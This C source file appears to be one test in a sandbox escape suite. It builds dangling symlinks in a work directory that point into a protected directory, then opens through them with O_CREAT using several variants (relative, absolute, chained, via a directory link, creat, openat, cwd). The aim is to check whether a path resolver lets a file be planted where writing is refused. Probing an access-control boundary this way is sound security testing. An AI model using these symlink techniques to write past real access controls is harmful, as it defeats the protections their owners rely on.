/* path_dangling: create a file inside SECRET's directory through a symlink that points at
 * nothing yet.  open(O_CREAT) without O_EXCL follows the link and creates its target; a
 * resolver that decides on the link's own path lets the file appear where a rule refuses
 * writing.
 *
 *   path_dangling SECRET WORK
 *
 * Each variant makes a link in WORK and creates through it; SECD is SECRET's directory:
 *   rel     WORK/rel -> ../<secd>/planted_rel
 *   abs     WORK/abs -> SECD/planted_abs
 *   chain   WORK/chain -> chain2 -> SECD/planted_chain
 *   viadir  WORK/dirlink -> SECD, WORK/viadir -> dirlink/planted_viadir (the target itself
 *           goes through another link)
 *   creat   creat(WORK/creat) with creat -> SECD/planted_creat
 *   openat  openat(fd of WORK, "openat") with openat -> SECD/planted_openat
 *   cwd     chdir(WORK), open("cwd") with cwd -> SECD/planted_cwd
 * Prints "<variant> -> OK|<errno>"; ESCAPED when any SECD/planted_* exists afterwards (it
 * names them).  With $ESC_THREAD set a second thread is alive meanwhile.
 * Issue 11 class 2 (the resolver guesses: a dangling last component).
 */
#include "attack.h"

#include <libgen.h>

static char secd[4096], work[4096], made[4096];

static void plant(const char *variant, const char *target_fmt, int how) {
    char link[4096], target[4096];
    snprintf(link, sizeof link, "%s/%s", work, variant);
    snprintf(target, sizeof target, target_fmt, secd, variant);
    if (symlink(target, link) < 0) {
        printf("%s -> symlink %s\n", variant, ename(errno));
        return;
    }
    int fd;
    if (how == 1) {
        fd = creat(link, 0644);
    } else if (how == 2) {
        int dfd = open(work, O_PATH | O_DIRECTORY);
        fd = openat(dfd, variant, O_CREAT | O_WRONLY, 0644);
        close(dfd);
    } else if (how == 3) {
        fd = chdir(work) < 0 ? -1 : open(variant, O_CREAT | O_WRONLY, 0644);
    } else {
        fd = open(link, O_CREAT | O_WRONLY, 0644);
    }
    printf("%s -> %s\n", variant, fd >= 0 ? "OK" : ename(errno));
    if (fd >= 0)
        close(fd);
    char planted[4096];
    snprintf(planted, sizeof planted, "%s/planted_%s", secd, variant);
    if (exists(planted)) {
        size_t used = strlen(made);
        snprintf(made + used, sizeof made - used, "%s%s", used ? ", " : "", planted);
    }
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("path_dangling SECRET WORK");
    char tmp[4096], dname[256], rel[4096], link[4096];
    snprintf(tmp, sizeof tmp, "%s", argv[1]);
    snprintf(secd, sizeof secd, "%s", dirname(tmp));
    snprintf(tmp, sizeof tmp, "%s", secd);
    snprintf(dname, sizeof dname, "%s", basename(tmp));
    snprintf(work, sizeof work, "%s", argv[2]);
    idle_thread_if_asked();
    snprintf(rel, sizeof rel, "../%s/planted_%%.0s%%s", dname);
    plant("rel", rel, 0);
    plant("abs", "%s/planted_%s", 0);
    snprintf(link, sizeof link, "%s/chain2", work);
    snprintf(tmp, sizeof tmp, "%s/planted_chain", secd);
    if (symlink(tmp, link) < 0)
        note("symlink chain2: %s", ename(errno));
    plant("chain", "chain2%.0s%.0s", 0);
    snprintf(link, sizeof link, "%s/dirlink", work);
    if (symlink(secd, link) < 0)
        note("symlink dirlink: %s", ename(errno));
    plant("viadir", "dirlink/planted_%.0s%s", 0);
    plant("creat", "%s/planted_%s", 1);
    plant("openat", "%s/planted_%s", 2);
    plant("cwd", "%s/planted_%s", 3);
    if (made[0])
        escaped("created through a dangling symlink: %s", made);
    blocked("nothing created in SECD");
}
